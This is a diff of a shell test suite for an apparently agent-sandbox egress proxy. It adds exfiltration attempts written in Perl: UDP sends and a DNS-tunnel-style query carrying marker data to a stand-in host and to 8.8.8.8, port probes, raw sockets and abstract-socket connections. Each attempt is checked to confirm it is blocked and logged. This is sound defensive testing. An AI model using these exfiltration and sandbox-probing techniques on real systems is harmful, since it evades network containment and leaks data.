@@ -187,12 +187,18 @@ exfil='
 	socket(U, PF_INET, SOCK_DGRAM, 17); send(U, "MARKER", 0, pack_sockaddr_in(53, inet_aton($_))) for ("203.0.113.9", "'"$gw"'", "8.8.8.8");
 	socket(V, 10, SOCK_DGRAM, 17); send(V, "MARKER", 0, pack("S n N a16 N", 10, 53, 0, "\x20\x01\x0d\xb8" . "\0" x 11 . "\1", 0));
 	socket(P, 17, 3, 768) and syscall(44, fileno(P), "MARKER" x 20, 120, 0, pack("S n i S C C a8", 17, 0x0800, 1, 0, 0, 6, "\xff" x 6), 20);
+	socket(D, PF_INET, SOCK_DGRAM, 17); connect(D, pack_sockaddr_in(53, inet_aton("8.8.8.8"))); send(D, pack("n6", 7, 256, 1, 0, 0, 0) . pack("C/a* C/a* C/a* x n2", "MARKER" . "x" x 50, "tunnel", "example", 16, 1), 0);
+	alarm 2; my $answer = ""; recv(D, $answer, 512, 0); printf "DNS %d\n", unpack("x2 n", $answer) & 15; alarm 0;
+	socket(Q, PF_INET, SOCK_DGRAM, 17); connect(Q, pack_sockaddr_in(443, inet_aton("203.0.113.9"))); send(Q, "MARKER" x 200, 0);
+	for my $port (22, 25, 443, 5432) { socket(T, PF_INET, SOCK_STREAM, 0); alarm 2; connect(T, pack_sockaddr_in($port, inet_aton("203.0.113.9"))) and print "CONNECTED $port\n"; print $! == 111 ? "REFUSED\n" : "OTHER $!\n"; alarm 0; }
 	for my $proto (0, 262) { for ("203.0.113.9", "'"$gw"'", "'"$hostip"'", "127.0.0.1") { socket(T, PF_INET, SOCK_STREAM, $proto) or next; alarm 2; connect(T, pack_sockaddr_in(4567, inet_aton($_))) and print "CONNECTED $_\n"; } }
 	socket(A, PF_UNIX, SOCK_STREAM, 0); connect(A, pack("S a*", 1, "\0agentrt-abstract-'"$tag"'")) and print "ABSTRACT\n";
 	print "end\n";'
 out=$(dk exec net perl -e "$exfil" 2>&1)
 like "the exfiltration script ran to its end" "$out" '^end$'
 unlike "no port of the host, of the gateway or of anyone answered" "$out" CONNECTED
+like "a name that would carry data out does not exist, says the proxy itself" "$out" '^DNS 3$'
+is "any port of any address is refused at once" "$(grep -c '^REFUSED' <<<"$out")" 4
 unlike "no abstract socket of the host answered" "$out" ABSTRACT
 for target in "$gw:4567" "$hostip:4567" "127.0.0.1:4567" "localhost:4567" "203.0.113.9:80"; do
 	out=$(dk exec net perl -e 'use Socket; socket(T, PF_INET, SOCK_STREAM, 0); connect(T, pack_sockaddr_in(3128, inet_aton("127.0.0.1"))) or die "no proxy"; syswrite T, "CONNECT '"$target"' HTTP/1.1\r\nHost: '"$target"'\r\n\r\n"; sysread T, my $b, 4096; print $b' 2>&1)
@@ -208,6 +214,11 @@ proxy=$(pgrep -f '^agentrt-egress' | while read -r p; do [ "$(readlink "/proc/$p
 like "the proxy is there" "$proxy" '^[0-9]+$'
 unlike "the proxy is not root" "$(awk '/^Uid/{print $2}' "/proc/$proxy/status")" '^0$'
 is "the proxy has no capability" "$(awk '/^Cap(Prm|Eff|Bnd|Amb|Inh)/{print $2}' "/proc/$proxy/status" | sort -u)" 0000000000000000
+log=$(find /run /var/run -path "*/$(dk inspect -f '{{.Id}}' net)/egress.log" 2>/dev/null | head -n 1)
+is "what was tried is in the decision log: names, datagrams, ports" \
+	"$(jq -r 'select(.verdict == "deny") | if .via == "dns" then "dns" elif .via == "udp" then "udp \(.port)" elif .via == "transparent" then "tcp \(.port)" else empty end' "$log" | grep -xE 'dns|udp 443|tcp (22|25|443|5432)' | sort -u | tr '\n' ' ')" \
+	"dns tcp 22 tcp 25 tcp 443 tcp 5432 udp 443 "
+unlike "and nothing of what was sent" "$(cat "$log")" MARKERMARKER
 kill -9 "$proxy"
 sleep 0.3
 out=$(dk exec net perl -e 'use Socket; socket(T, PF_INET, SOCK_STREAM, 0); connect(T, pack_sockaddr_in(3128, inet_aton("127.0.0.1"))) and print "PROXY"' 2>&1)
